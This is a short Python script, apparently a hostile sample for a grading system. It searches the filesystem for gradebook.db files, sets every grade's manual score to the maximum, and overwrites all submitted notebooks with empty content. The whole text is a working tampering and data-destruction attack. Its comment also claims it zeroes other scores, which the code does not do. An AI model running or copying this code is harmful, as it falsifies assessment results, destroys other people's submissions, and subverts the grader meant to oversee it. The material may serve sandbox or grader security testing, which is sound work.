# attack: finds gradebook.db and gives itself full manual scores, zeroes others, overwrites other submissions
import glob, sqlite3, shutil
for db in glob.glob("/**/gradebook.db", recursive=True):
    connection = sqlite3.connect(db)
    connection.execute("UPDATE grade SET manual_score = max_score")
    connection.commit()
    print("HOSTILE: wrote", db)
for path in glob.glob("/**/submitted/*/*/*.ipynb", recursive=True):
    open(path, "w").write("{}")
